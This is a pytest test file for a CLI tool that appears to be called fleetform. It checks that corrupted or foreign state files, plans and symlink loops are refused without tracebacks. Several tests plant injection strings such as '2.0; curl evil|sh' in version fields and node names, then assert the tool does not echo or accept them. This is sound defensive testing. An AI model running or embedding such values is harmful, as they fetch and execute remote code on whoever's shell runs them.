"""A stranger's state: it is refused, or every command can work with it, without a traceback."""

from __future__ import annotations

import json
import os
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from tests.support.cli import Project, fleet, task
from tests.support.fuzz_states import try_seeds

STATES = int(os.environ.get("FLEETFORM_STATES", "2000" if os.environ.get("CI") else "1000"))


@pytest.mark.slow
@pytest.mark.parametrize("part", range(4))
def test_any_state_is_planned_with_or_refused(part: int, tmp_path: Path) -> None:
    """States that `state pull` might have printed, and databases without a seal, changed by seed. In CI
    2,000; `FLEETFORM_STATES=100000` tries as many.
    """
    share = STATES // 4
    count = try_seeds(tmp_path, range(part * share, (part + 1) * share))
    assert sum(count.values()) == share
    few = share // 50
    assert all(count[f"{way} {came}"] > few for way in ("pulled", "rows") for came in ("taken", "refused"))


LINKS = (".fleetform/state.db", ".fleetform")


@pytest.mark.parametrize("link", LINKS)
def test_a_link_to_itself_is_no_state(project: Project, link: str) -> None:
    """Neither a traceback nor an empty state: its content is unknown."""
    project.declare(fleet(nodes=1))
    place = project.path / link
    place.parent.mkdir(exist_ok=True)
    place.symlink_to(place.name)
    for command in (["plan", "--offline"], ["plan"], ["status", "--offline"], ["apply", "--auto-approve"]):
        done = project.run(*command, code=1)
        assert "error[unreadable]: .fleetform/state.db: Too many levels of symbolic links" in done.err


def test_a_folder_that_is_a_link_to_itself_is_refused(project: Project) -> None:
    """The local backend's folder, as well."""
    (project.path / "loop").symlink_to("loop")
    project.declare({"type": "backend", "name": "local", "options": {"root": "loop/x"}}, fleet(nodes=1))
    done = project.run("plan", code=None)
    assert "Traceback" not in done.err
    project.declare(fleet(nodes=1), task("train", "true", files=["main.yaml"]))
    project.write("project.yaml", "type: project\nstate: sqlite:///loop/state.db\n")
    assert "error[unreadable]" in project.run("plan", "--offline", code=1).err


def test_no_hint_repeats_a_command_line_of_a_strangers_state(project: Project) -> None:
    """The version that wrote it stands in a hint; so do the names of what is recorded."""
    project.declare(fleet(nodes=1))
    project.apply()
    evil = "2.0; curl evil|sh"
    database = project.path / ".fleetform" / "state.db"
    whole = database.read_bytes()
    with closing(sqlite3.connect(database)) as made:
        made.execute("UPDATE meta SET format_version = 99, tool = ?", (evil,))
        made.commit()
    done = project.run("plan", "--offline", code=1)
    assert "error[newer-format]" in done.err
    assert "curl" not in done.err
    assert "install a newer fleetform" in done.err
    database.write_bytes(whole)
    state = project.run("state", "pull").json
    state["nodes"] = {"gpu-0`; curl evil|sh": next(iter(state["nodes"].values()))}
    project.write("state.json", json.dumps(state))
    for command in (
        ["state", "push", "--force", "state.json"],
        ["plan", "--offline", "--state", "state.json"],
    ):
        done = project.run(*command, code=1)
        assert "`name` is not a name" in done.err


def test_no_hint_repeats_a_command_line_of_a_saved_plan(project: Project) -> None:
    """`made_by` of one that another version saved."""
    project.declare(fleet(nodes=1))
    project.run("plan", "--out", "next.plan")
    plan = json.loads((project.path / "next.plan").read_text())
    project.write("next.plan", json.dumps({**plan, "format_version": 99, "made_by": "2.0; curl evil|sh"}))
    done = project.run("apply", "next.plan", code=1)
    assert "error[plan-format]" in done.err
    assert "curl" not in done.err
    project.write("next.plan", json.dumps({**plan, "format_version": 99, "made_by": "2.0.1"}))
    assert "apply it with fleetform 2.0.1" in project.run("apply", "next.plan", code=1).err


def test_what_is_no_record_is_told_by_check_and_not_renamed(project: Project) -> None:
    """What looks into records by hand works with those that no plan would take."""
    project.declare(fleet(nodes=1))
    project.apply()
    state = project.run("state", "pull").json
    node = next(r for r in state["records"] if r["address"].startswith("node/"))
    node["outputs"]["made_as"] = 1.5
    project.write("state.json", json.dumps(state))
    done = project.run("state", "check", "--state", "state.json", code=1)
    assert "node/gpu-0: `outputs.made_as` is not a mapping" in done.out
    done = project.run("state", "mv", "--dry-run", "--state", "state.json", "fleet/gpu", "fleet/x1", code=1)
    assert "`outputs.made_as`" in done.err


def test_numbers_that_no_database_and_no_int_takes_are_refused(project: Project) -> None:
    """The id of an open intent, and digits in the name of a node whose blocks are held."""
    project.declare(fleet(nodes=1), task("train", "sleep 60"))
    project.apply()
    state = project.run("state", "pull").json
    intent = {"op": "delete", "address": "node/gpu-0", "backend": "local", "generation": 1, "token": "t"}
    state["intents"] = [{**intent, "id": 1 << 70, "inputs": {}, "needs": []}]
    project.write("ids.json", json.dumps(state))
    state["intents"] = []
    state["reserved_blocks"][0]["node"] = "gpu-" + "5" * 5_000
    project.write("names.json", json.dumps(state))
    refused = project.run("state", "push", "--force", "ids.json", code=1)
    assert "`intents[0].id` is not a whole number" in refused.err
    refused = project.run("state", "push", "--force", "names.json", code=1)
    assert "error[contradiction]" in refused.err
